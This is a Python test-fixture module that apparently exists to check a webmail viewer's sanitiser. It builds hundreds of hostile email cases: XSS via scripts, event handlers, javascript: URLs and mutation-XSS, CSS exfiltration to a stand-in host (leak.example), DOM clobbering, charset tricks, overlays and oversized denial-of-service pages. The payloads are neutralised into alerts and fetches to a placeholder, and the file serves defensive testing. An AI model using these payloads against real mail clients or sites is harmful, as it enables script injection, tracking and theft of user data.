r"""Hostile mail of many kinds, for a browser: what of it runs, fetches or shows anything outside its frame is a hole.

In a case, ``{js}`` stands for a script that tells the page around it which case ran, ``{url}`` for an address elsewhere, and ``{own}``
for one of our own site that nobody else asks for. A case is the HTML of a mail, or a whole message.
"""

from __future__ import annotations

import base64
from dataclasses import dataclass
from itertools import product

__all__ = ["CASES", "HEAVY", "PNG", "Case"]

PNG = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")
_SVG = "<svg xmlns='http://www.w3.org/2000/svg' onload='{js}'><script>{js}</script><image href='{url}'/></svg>"
_SVG_DATA = "data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='{js}'%3E%3Cscript%3E{js}%3C/script%3E%3C/svg%3E"

_SCRIPTS = """
<script>{js}</script>
<SCRIPT SRC={url}></SCRIPT>
<script src=data:text/javascript,{js}></script>
<script/x>{js}</script/x>
<script type=module>{js}</script>
<script type=module>import "{url}"</script>
<scr<script>ipt>{js}</scr</script>ipt>
<<script>{js}//<</script>
<script>{js}
<script
>{js}</script
>
<ScRiPt type="text/javascript">{js}</sCrIpT>
<script defer src=//leak.example/x.js></script>
<script type=speculationrules>{"prefetch":[{"urls":["{url}"]}]}</script>
<script type=importmap>{"imports":{"x":"{url}"}}</script><script type=module>import "x"</script>
<script async>{js}</script><noscript><img src={url}></noscript>
<script>/*</script><script>*/{js}</script>
<script nonce=abc>{js}</script>
"""
_EVENTS = """
img src=x|onerror
body|onload
svg|onload
video src=x|onerror
audio src=x|onerror
video><source src=x|onerror
input autofocus|onfocus
select autofocus|onfocus
textarea autofocus|onfocus
details open|ontoggle
marquee|onstart
object data=x|onerror
embed src=x|onload
style|onload
link rel=stylesheet href=x|onerror
iframe|onload
iframe src=about:blank|onload
frameset|onload
image src=x|onerror
input type=image src=x|onerror
p style=animation:x|onanimationstart
div tabindex=0 autofocus|onfocus
a href=x autofocus|onfocus
div contenteditable autofocus|onfocus
button popovertarget=y autofocus|onfocus
dialog open|onfocus
body|onpageshow
body|onresize
video autoplay|onloadstart
math href=javascript:{js}|onclick
x contenteditable autofocus|onfocusin
p onpointerrawupdate={js}|onscrollend
isindex type=image src=x|onerror
"""
_ATTRIBUTES = """
<img/src=x/onerror={js}>
<img src="x"onerror={js}>
<IMG SRC=x OnErRoR={js}>
<img src=x onerror
=
{js}>
<img src='>' onerror={js}>
<img alt="`<x title='" src=x onerror={js}>
<img \"\"\"><script>{js}</script>">
<img src=x o\x00nerror={js}>
<img src=x\x0conerror={js}>
<img src=x onerror=&#x7b;{js}&#125;>
<img src=x onerror&equals;{js}>
<img src="x` `<script>{js}</script>"` `>
<img =x src=x onerror={js}>
<img / / onerror={js} src=x / />
<img title="a" title='"><img src=x onerror={js}>' src=x>
<a title="<img src=x onerror={js}>">x</a>
<a title=`<img src=x onerror={js}>`>x</a>
<p title="&quot;><img src=x onerror={js}>">x
<p style="x:&quot;><img src=x onerror={js}>">x
<font face='"><img src=x onerror={js}>' color='"onload={js}'>x
<img width='1" onerror="{js}' src=x height='&quot; onerror={js}'>
<td align='" onmouseover={js}'><table><td align="&#34;><script>{js}</script>">x
"""
_SCHEMES = """
javascript:{js}
JaVaScRiPt:{js}
java\tscript:{js}
java&Tab;script:{js}
java&NewLine;script:{js}
&#106;avascript:{js}
&#x6A&#x61vascript:{js}
&#0000106avascript:{js}
 \x01javascript:{js}
javascript&colon;{js}
javascript://a.example/%0a{js}
view-source:javascript:{js}
vbscript:{js}
livescript:{js}
data:text/html,<script>{js}</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg
data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>{js}</script>
blob:null/x
filesystem:http://a.example/x
file:///etc/passwd
about:srcdoc
feed:javascript:{js}
jar:{url}!/x
intent://a.example#Intent;scheme=http;end
"""
_CSS = """
<style>@import "{url}";</style>
<style>@import url({url});body{background:url({url})}</style>
<style>@font-face{font-family:x;src:url({url})}*{font-family:x}</style>
<style><!--</style><style>body{background:url({url})}--></style>
<link rel=stylesheet href={url}>
<link rel="alternate stylesheet" href={url}>
<p style="background:url({url})">x
<p style="background-image:url('{url}')">x
<p style="background:u\\72l({url})">x
<p style="background:u&#92;72l({url})">x
<p style="background:/**/url(/**/{url})">x
<p style="list-style:url({url});display:list-item">x
<p style="list-style-image:url({url});display:list-item">x
<p style="border-image:url({url}) 1">x
<p style="content:url({url})">x
<p style="cursor:url({url}),auto">x
<p style="filter:url({url}#a)">x
<p style="mask:url({url});-webkit-mask-image:url({url})">x
<p style="shape-outside:url({url});float:left">x
<p style="background:image-set('{url}' 1x)">x
<p style="background:-webkit-image-set(url({url}) 1x)">x
<p style="background:cross-fade(url({url}),url({url}))">x
<p style="--x:url({url});background:var(--x)">x
<p style="color:red;}body{background:url({url})}">x
<p style="font-family:'a;background:url({url});b'">x
<p style="font-family:'a\nbackground:url({url})'">x
<p style="width:expression({js})">x
<p style="behavior:url({url})">x
<p style="-moz-binding:url({url}#x)">x
<p style="offset-path:url({url}#x);clip-path:url({url}#x)">x
<p style="src:url({url});@import url({url})">x
<p style="background:url(&quot;{url}&quot;)">x
<p style='font:12px "a;background:url({url})'>x
<p style="color:red\\;background:url({url})">x
<style>input[value^=a]{background:url({url})}</style><input value=abc>
<style>p:has(+a[href*=token]){background:url({url})}</style><p>x<a href=?token=1>y</a>
<style>@namespace x url({url});@keyframes k{to{background:url({url})}}p{animation:k 1s}</style><p>x
<style>:root{background:attr(data-u type(<url>))}</style><p data-u={url}>x
<table background={url}><tr background={url}><td background={url}>x</table>
<body background={url}>x
<p style="animation:x 1s;transition:all 1s;transform:scale(99)">x
"""
_DOCUMENTS = """
<meta http-equiv=refresh content="0;url={url}">
<meta http-equiv=refresh content="0;url=javascript:{js}">
<meta http-equiv="refresh" content="0; url=data:text/html,<script>{js}</script>">
<meta http-equiv=Content-Security-Policy content="default-src *;script-src 'unsafe-inline'"><script>{js}</script>
<meta http-equiv=Content-Type content="text/html; charset=utf-7">+ADw-script+AD4-{js}+ADw-/script+AD4-
<meta charset=utf-16><script>{js}</script>
<meta name=referrer content=unsafe-url><img src={url}>
<meta http-equiv=set-cookie content="a=b">
<meta http-equiv=Link content="<{url}>;rel=preload;as=image">
<meta http-equiv=origin-trial content=x>
<base href={url}/><img src=x><a href=y>z</a>
<base href=javascript:{js}//><a href=x>y</a>
<base target=_top><a href={url}>x</a>
<link rel=prefetch href={url}>
<link rel=preload as=image href={url}>
<link rel=modulepreload href={url}>
<link rel=prerender href={url}>
<link rel="dns-prefetch preconnect" href=//leak.example>
<link rel=icon href={url}><link rel=manifest href={url}>
<link rel=import href={url}><link rel=pingback href={url}>
<link rel=next href={url}><link rel=compression-dictionary href={url}>
<html manifest={url}>
<html onload={js}><head><script>{js}</script></head><body onload={js}>
<!DOCTYPE html [<!ENTITY x SYSTEM "{url}">]>&x;
<!doctype html><?xml-stylesheet href="{url}"?>
<?php echo 1 ?><?xml version="1.0"?><?import namespace="t" implementation="{url}">
<head profile={url}><title><script>{js}</script></title></head>
"""
_FORMS = """
<form action={url}><input name=a autofocus><button>x</button></form>
<form action=javascript:{js}><input type=submit autofocus></form>
<form id=f action={url}></form><button form=f formaction=javascript:{js} autofocus>x</button>
<form method=dialog><button formmethod=post formaction={url}>x</button></form>
<isindex action=javascript:{js} type=image>
<input type=image src={url}>
<input type=password name=p autocomplete=current-password><input type=email autocomplete=username>
<form><input formaction={url} type=submit><textarea>x</textarea><select><option>a</select></form>
<button type=submit formaction={url} popovertarget=x>x</button>
<form action={own} method=post target=_top><input name=csrf value=x></form>
<keygen autofocus onfocus={js}>
<input type=file><input type=hidden name=_charset_><output onclick={js}>
<datalist id=d><option value=x></datalist><input list=d>
"""
_FOREIGN = """
<svg><script>{js}</script></svg>
<svg><script href={url}></script></svg>
<svg><script xlink:href=data:,{js} /></svg>
<svg onload={js}>
<svg><animate onbegin={js} attributeName=x dur=1s>
<svg><set attributeName=onload to={js}>
<svg><a xlink:href=javascript:{js}><text y=20>x</text></a></svg>
<svg><a><animate attributeName=href values=javascript:{js}></animate><text y=20>x</text></a></svg>
<svg><image href={url} xlink:href={url}></svg>
<svg><use href={url}#x></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='{js}'/></svg>#x"></svg>
<svg><foreignObject><iframe src=javascript:{js}></iframe></foreignObject></svg>
<svg><foreignObject><body onload={js}></foreignObject></svg>
<svg><style>@import '{url}';</style></svg>
<svg><style>*{background:url({url})}</style><p>x
<svg><desc><img src=x onerror={js}></desc></svg>
<svg><title><img src=x onerror={js}></title></svg>
<svg><feImage href={url}></svg>
<svg><filter id=f><feImage xlink:href={url} /></filter><rect filter=url(#f)></svg>
<svg><discard onbegin={js}><handler type=text/javascript>{js}</handler></svg>
<svg><![CDATA[><img src=x onerror={js}>]]></svg>
<svg></p><img src=x onerror={js}></svg>
<math><mi xlink:href="javascript:{js}">x</mi></math>
<math href="javascript:{js}">x</math>
<math><maction actiontype=statusline#{url} xlink:href=javascript:{js}>x</maction></math>
<math><annotation-xml encoding=text/html><script>{js}</script></annotation-xml></math>
<math><mtext><img src=x onerror={js}></mtext></math>
<math><img src=x onerror={js}>
<math><style><img src=x onerror={js}></style></math>
<math><mglyph src={url}></math>
"""
_EMBEDDED = """
<iframe src={url}></iframe>
<iframe src=javascript:{js}></iframe>
<iframe srcdoc="<script>{js}</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror={js}&gt;"></iframe>
<iframe src="data:text/html,<script>{js}</script>"></iframe>
<iframe><img src=x onerror={js}></iframe>
<iframe sandbox=allow-scripts srcdoc="<script>{js}</script>"></iframe>
<frameset><frame src=javascript:{js}><frame src={url}></frameset>
<object data={url}></object>
<object data=javascript:{js}></object>
<object data="data:text/html,<script>{js}</script>"></object>
<object type=text/html data={own}><embed src={url}></object>
<object><param name=src value={url}><param name=url value=javascript:{js}></object>
<embed src={url}><embed src=javascript:{js}><embed code={url}>
<applet code=x codebase={url} archive={url}></applet>
<video src={url} poster={url} autoplay></video><audio src={url} autoplay></audio>
<video><source src={url}><track src={url} default></video>
<portal src={url}></portal><fencedframe src={url}></fencedframe>
<bgsound src={url}><layer src={url}></layer><ilayer src={url}>
<noembed><img src=x onerror={js}></noembed><noframes><img src=x onerror={js}></noframes>
<canvas><img src=x onerror={js}></canvas><xml src={url} id=x></xml>
<template shadowrootmode=open><img src=x onerror={js}><slot></slot></template>
<div><template shadowrootmode=open><style>@import "{url}"</style><script>{js}</script></template></div>
"""
_MUTATIONS = """
<noscript><p title="</noscript><img src=x onerror={js}>">
<noscript><style></noscript><img src=x onerror={js}></style>
<template><p title="</template><img src=x onerror={js}>">
<xmp><p title="</xmp><img src=x onerror={js}>">
<noembed><p title="</noembed><img src=x onerror={js}>">
<noframes><p title="</noframes><img src=x onerror={js}>">
<iframe><p title="</iframe><img src=x onerror={js}>">
<textarea><p title="</textarea><img src=x onerror={js}>">
<title><p title="</title><img src=x onerror={js}>">
<style><p title="</style><img src=x onerror={js}>">
<script><p title="</script><img src=x onerror={js}>">
<select><p title="</select><img src=x onerror={js}>">
<plaintext><p title="</plaintext><img src=x onerror={js}>">
<listing>&lt;img src=x onerror={js}&gt;</listing><pre>&lt;img src=x onerror={js}&gt;</pre>
<xmp>&lt;img src=x onerror={js}&gt;</xmp><textarea>&lt;/textarea>&lt;img src=x onerror={js}&gt;</textarea>
<svg></p><style><a id="</style><img src=x onerror={js}>">
<svg><p><style><a title="</style><img src=x onerror={js}>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={js}&gt;">
<math><mtext><table><mglyph><style><math href=javascript:{js}>x</math></style></table>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={js}>
<math><mtext><mglyph><svg><mtext><style><a title="</style><img src=x onerror={js}>">
<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror={js}>">
<math><annotation-xml encoding="text/html"><style><img src=x onerror={js}></style></annotation-xml></math>
<svg><desc><table><style><a title="</style><img src=x onerror={js}>"></table></desc></svg>
<table><td><svg><style><a title="</style><img src=x onerror={js}>"></table>
<select><svg><style><a title="</style><img src=x onerror={js}>">
<p><svg><title><style><img src=x onerror={js}></style></title>
<font color=red><table><tr><font><svg><style><p title="</style><img src=x onerror={js}>">
<a><table><td><a><table><style><!--</style><a title="--><img src=x onerror={js}>">
<b><p><b></b></p></b><svg><b><style><b title="</style><img src=x onerror={js}>">
<table><caption><select><noscript><p title="</noscript><img src=x onerror={js}>">
<template><svg><template><style><a title="</style></template><img src=x onerror={js}>">
<div><ruby><rtc><select><style><!--</style><img src=x onerror={js}>-->
<listing>
<img src=x onerror={js}></listing><image><image/src=x/onerror={js}>
<svg><foreignObject><math><mi><svg><foreignObject><style><img src=x onerror={js}></style>
"""
_COMMENTS = """
<!--><img src=x onerror={js}>-->
<!---><img src=x onerror={js}>-->
<!-- --!><img src=x onerror={js}>-->
<!-- <!-- --><img src=x onerror={js}> -->
<!-- x -- ><img src=x onerror={js}>
<!--[if gte IE 4]><script>{js}</script><![endif]-->
<![if IE]><img src=x onerror={js}><![endif]>
<!x><img src=x onerror={js}>
<? ><img src=x onerror={js}>
</ ><img src=x onerror={js}>
</x foo="><img src=x onerror={js}>">
<![CDATA[<img src=x onerror={js}>]]>
<!-><img src=x onerror={js}>
<!-- \x00 --><img src=x onerror={js}><!--
<%<img src=x onerror={js}>%>
<a <!-- --> href="javascript:{js}">x</a>
<p <script>{js}</script>
<img src=x onerror={js}//
<img src=x onerror={js}
"""
_ENTITIES = """
&lt;script&gt;{js}&lt;/script&gt;
&amp;lt;script&amp;gt;{js}
&#60;img src=x onerror={js}&#62;
&#x3c;img src=x onerror={js}&#x3E
&LT;img src=x onerror={js}&GT
\\u003cscript\\u003e{js}\\u003c/script\\u003e
%3Cscript%3E{js}%3C/script%3E
\uff1cscript\uff1e{js}\uff1c/script\uff1e
\u02c2img src=x onerror={js}\u02c3 \u2039img src=x onerror={js}\u203a
<\uff53cript>{js}</\uff53cript><\u017fcript>{js}</\u017fcript>
<a href="&#1;javascript:{js}">x</a><a href="&#xFEFF;javascript:{js}">y</a>
<p title='&NotAnEntity;&notit;&#xffffffff;&#0;&#xD800;"><img src=x onerror={js}>'>
"""
_PICTURES = """
<img src={url}>
<img src='{url}' width=1 height=1>
<img src=//leak.example/x>
<img src=\\\\leak.example\\x>
<img src=http:/\\leak.example/x>
<img src={own}>
<img src=/leak/relative>
<img src=ftp://leak.example/x>
<img srcset="{url} 1x, {url} 2x">
<img src=cid:a srcset={url} sizes=1px>
<picture><source srcset={url}><img src={url}></picture>
<img lowsrc={url} dynsrc={url} longdesc={url} src=cid:none>
<img src=cid:svg><img src=cid:html>
<img src="cid:../../leak/x"><img src="cid:http://leak.example/x">
<img src="CID:%00a"><img src="cid:a%22 onerror={js} x=%22">
<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0naHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmcnIG9ubG9hZD0nYWxlcnQoMSknLz4=">
<img src="data:text/html,<script>{js}</script>">
<img src="data:image/png;base64,PHNjcmlwdD4=" onerror={js}>
<img src="data:image/png,%89PNG%0D%0A%1A%0A" onerror={js}>
<img src=x usemap=#m><map name=m><area href=javascript:{js} coords=0,0,99,99></map>
<img src={url} crossorigin=use-credentials referrerpolicy=unsafe-url attributionsrc={url}>
<img src={url} loading=eager fetchpriority=high ismap>
<input type=image src={url}><image href={url} src={url}>
"""
_CLOBBERING = """
<img name=body><img id=documentElement><form name=getElementById></form>
<a id=location href={url}></a><a id=location name=href href=javascript:{js}>x</a>
<form id=window><input name=top><input name=parent></form>
<img name=cookie><img name=domain><iframe name=alert></iframe>
<object name=postMessage id=fetch></object><embed name=currentScript>
<p class="plain" id=plain-text style="display:block">x<p slot=x part=y is=z>
<a ping={url} href={url}>x</a><a attributionsrc={url} href={url}>y</a>
<a href={url} target=_top>x</a><a href={url} target=_parent>y</a><a href={url} target=_self>z</a>
<a href={url} rel=opener>x</a><a href={url} rel=opener target=x download>y</a>
<a href=# target=_top onclick={js} accesskey=a>x</a><p accesskey=x tabindex=1 autofocus>y
<div contenteditable draggable=true onfocus={js} inert hidden=until-found>x</div>
<a href="https://bank.example@leak.example">x</a><a href="https:\\\\leak.example">https://bank.example</a>
<details open><summary>x</summary><dialog open>y</dialog></details><menu><menuitem icon={url}>
<x-element is=y onconnected={js}><slot name=x><portal>
<div popover=auto id=p>x</div><button popovertarget=p commandfor=p command=show-popover>y</button>
"""
#: Those that would cover or leave their frame, if they could.
_COVERING = """
<div style="position:fixed;left:-500px;top:-500px;width:9999px;height:9999px;background:red;z-index:2147483647">x</div>
<div style="position:absolute;left:-900px;width:9999px;height:9999px;background:red">x</div>
<div style="margin:-900px;width:9999px;height:9999px;background:red">x</div>
<div style="transform:translate(-900px,-900px) scale(99);background:red">x</div>
<table width=9999 height=9999 bgcolor=red style="margin-left:-900px"><td>x</table>
<dialog open style="position:fixed;inset:-900px;background:red">x</dialog>
<div popover=manual style="position:fixed;inset:-900px;background:red;display:block">x</div>
<font size=7 style="font-size:9999px;color:red">x</font>
<p style="letter-spacing:-9999px;text-indent:-9999px;border:9999px solid red">x
<body bgcolor=red style="margin:-900px;padding:900px"><marquee>x</marquee>
<div style="float:left;width:99999px;height:99999px;background:red;outline:9999px solid red;box-shadow:0 0 0 9999px red">x</div>
<img src="{png}" width=9999 height=9999 style="margin:-99px;max-width:none">
"""


_CODECS = (
    ("utf-16", "utf-16"),
    ("utf-16le", "utf-16-le"),
    ("utf-16be", "utf-16-be"),
    ("utf-32", "utf-32"),
    ("utf-8", "utf-16-le"),
    ("utf-7", "utf-7"),
    ("ibm037", "cp037"),
    ("x-none", "ascii"),
    ("iso-2022-jp", "iso-2022-jp"),
    ("replacement", "ascii"),
)


@dataclass(frozen=True, slots=True)
class Case:
    """One hostile mail."""

    number: int
    kind: str
    html: str = ""
    #: The whole message, in place of the html.
    raw: bytes = b""
    #: The charset that the mail names, and the codec that it is written in.
    codec: tuple[str, str] | None = None

    def message(self, own: str) -> bytes:
        """Return the mail, for a site at ``own``."""
        if self.raw:
            return self.filled(self.raw.decode("latin-1"), own).encode("latin-1")
        if self.codec:
            charset, codec = self.codec
            return f"Content-Type: text/html; charset={charset}\r\n\r\n".encode() + self.filled(self.html, own).encode(codec)
        parts = [
            b"Content-Type: text/html; charset=utf-8\r\n\r\n" + self.filled(self.html, own).encode(),
            b'Content-Type: image/png; name="<img src=x>.png"\r\nContent-ID: <a>\r\nContent-Transfer-Encoding: base64\r\n\r\n'
            + base64.b64encode(PNG),
            b"Content-Type: image/png\r\nContent-ID: <svg>\r\n\r\n" + self.filled(_SVG, own).encode(),
            b"Content-Type: text/html\r\nContent-ID: <html>\r\n\r\n" + self.filled("<script>{js}</script>", own).encode(),
        ]
        return (
            b"Content-Type: multipart/related; boundary=b\r\n\r\n"
            + b"".join(b"--b\r\n" + one + b"\r\n" for one in parts)
            + b"--b--\r\n"
        )

    def filled(self, text: str, own: str) -> str:
        """Return a text of this case with its script and addresses."""
        js = f"parent.postMessage({self.number},String.fromCharCode(42)),alert({self.number})"
        for name, value in {
            "js": js,
            "url": f"http://leak.example/{self.number}",
            "own": f"{own}/leak/{self.number}",
            "png": f"data:image/png;base64,{base64.b64encode(PNG).decode()}",
        }.items():
            text = text.replace(f"{{{name}}}", value)
        return text


def _lines(table: str) -> list[str]:
    """Return the cases of a table: each begins a line with other text than the middle of a tag."""
    cases: list[str] = []
    for line in table.strip("\n").split("\n"):
        if cases and line[:1] in {"=", ">", "{"}:
            cases[-1] += f"\n{line}"
        else:
            cases.append(line)
    return cases


def _events() -> list[str]:
    return [f"<{element} {event}={{js}}>x" for element, event in (line.split("|") for line in _lines(_EVENTS))]


def _schemes() -> list[str]:
    """Addresses that are followed by themselves, and those that wait for a click."""
    places = ('<a href="{}">x</a>', '<iframe src="{}"></iframe><img src="{}"><form action="{}"><object data="{}">')
    return [place.replace("{}", scheme) for place, scheme in product(places, _lines(_SCHEMES.strip("\n")))]


def _charsets() -> list[bytes]:
    """Bytes that are tags in another charset than a careless reader takes them for."""
    head = "Content-Type: text/html; charset={}\r\n\r\n"
    plain = "+ADw-script+AD4-{js}+ADw-/script+AD4-"
    found = [head.format("utf-7").encode() + plain.encode(), head.format('"utf-7"; x=y').encode() + plain.encode()]
    found += [
        head.format("iso-2022-jp").encode() + b"<p title='\x1b$B'>\x1b(B<img src=x onerror={js}>'>",
        head.format("iso-2022-jp").encode() + b"\x1b$B<\x1b(Bscript>{js}</script>",
        head.format("hz-gb-2312").encode() + b"<p title='~{'><img src=x onerror={js}>~}'>",
        head.format("shift_jis").encode() + b'<p title="\x81">"><img src=x onerror={js}>',
        head.format("gbk").encode() + b'<p title="\xd6\\"><img src=x onerror={js}>">',
        head.format("big5").encode() + b'<p title="\x83\\"><img src=x onerror={js}>">',
        head.format("utf-8").encode() + b"\xc0\xbcscript>{js}\xc0\xbc/script><p title='\xf0'><img src=x onerror={js}>'>",
        head.format("utf-8").encode() + b"\xef\xbb\xbf<script>{js}</script>\xfe\xff<\x00s\x00c\x00r\x00i\x00p\x00t\x00>",
        b"Content-Type: text/html\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n=3Cscript=3E{js}=3C/script=3E",
        b"Content-Type: text/plain; charset=utf-7\r\n\r\n" + plain.encode(),
        b"Content-Type: text/plain\r\n\r\n<script>{js}</script> http://x.example/\"onmouseover={js} https://a.example/'><img src=x onerror={js}>",
        b"Content-Type: text/rtf\r\n\r\n{\\rtf1 <script>{js}</script>}",
        b"Content-Type: image/svg+xml\r\n\r\n" + _SVG.encode(),
        b"Content-Type: application/xhtml+xml\r\n\r\n<html xmlns='http://www.w3.org/1999/xhtml'><script>{js}</script></html>",
        b"\r\n<script>{js}</script>",
        b"Content-Type: multipart/alternative; boundary=b\r\n\r\n--b\r\nContent-Type: text/x-amp-html\r\n\r\n<script>{js}</script>\r\n--b--",
        b"Content-Type: text/html; name*=utf-8''%3Cscript%3E{js}\r\nContent-Disposition: inline; filename=\"<script>{js}</script>\"\r\n\r\nx",
    ]  # fmt: skip
    return found


def _all() -> list[Case]:
    pages = {
        "script": _lines(_SCRIPTS),
        "event": _events(),
        "attribute": _lines(_ATTRIBUTES),
        "scheme": _schemes(),
        "css": _lines(_CSS),
        "document": _lines(_DOCUMENTS),
        "form": _lines(_FORMS),
        "foreign": _lines(_FOREIGN),
        "embedded": _lines(_EMBEDDED),
        "mutation": _lines(_MUTATIONS),
        "comment": _lines(_COMMENTS),
        "entity": _lines(_ENTITIES),
        "picture": [*_lines(_PICTURES), f'<img src="{_SVG_DATA}"><object data="{_SVG_DATA}">'],
        "clobbering": _lines(_CLOBBERING),
        "covering": _lines(_COVERING),
    }
    found: list[Case] = []
    for kind, texts in pages.items():
        found += [Case(number, kind, html=text) for number, text in enumerate(texts, len(found))]
    found += [Case(number, "charset", raw=raw) for number, raw in enumerate(_charsets(), len(found))]
    script = "<script>{js}</script><img src=x onerror={js}>"
    return [*found, *(Case(number, "codec", script, codec=codec) for number, codec in enumerate(_CODECS, len(found)))]


CASES = _all()

#: Pages that are large or deep: the number of characters is what they cost their sender.
HEAVY = {
    "100,000 nested elements": "<div>" * 100_000,
    "100,000 nested inline elements": "<b>" * 100_000,
    "unclosed fonts": "<p>" + "".join(f"<font color=#{number:06}>" for number in range(200)) + "<p>x" * 100_000,
    "nested tables": "<table><tr><td>" * 60 + "x",
    "tables that are too deep": "<table><tr><td>" * 20_000 + "x",
    "cells that span": "<table>" + ("<tr>" + "<td colspan=9999 rowspan=9999>x" * 20) * 500,
    "a wide table": "<table><tr>" + "<td>x" * 30_000,
    "a long table": "<table>" + "<tr><td>x<td>y" * 10_000,
    "huge attributes": "<p title='" + "x" * 1_000_000 + "' style='color:" + "r" * 500_000 + "'>x",
    "many attributes": "<p " + "a=b " * 300_000 + ">x",
    "a long word": "<p>" + "x" * 1_500_000,
    "a long line": "<pre>" + "x " * 700_000,
    "many pictures": "<img src=http://leak.example/x>" * 30_000,
    "many links": "<a href=//leak.example>bank.example</a> " * 15_000,
    "many lists": "<ul><li>x" * 20_000,
    "many entities": "&nbsp;&copy;&#8238;" * 80_000,
    "floats": "<div style='float:left;width:1px'>x</div>" * 30_000,
}
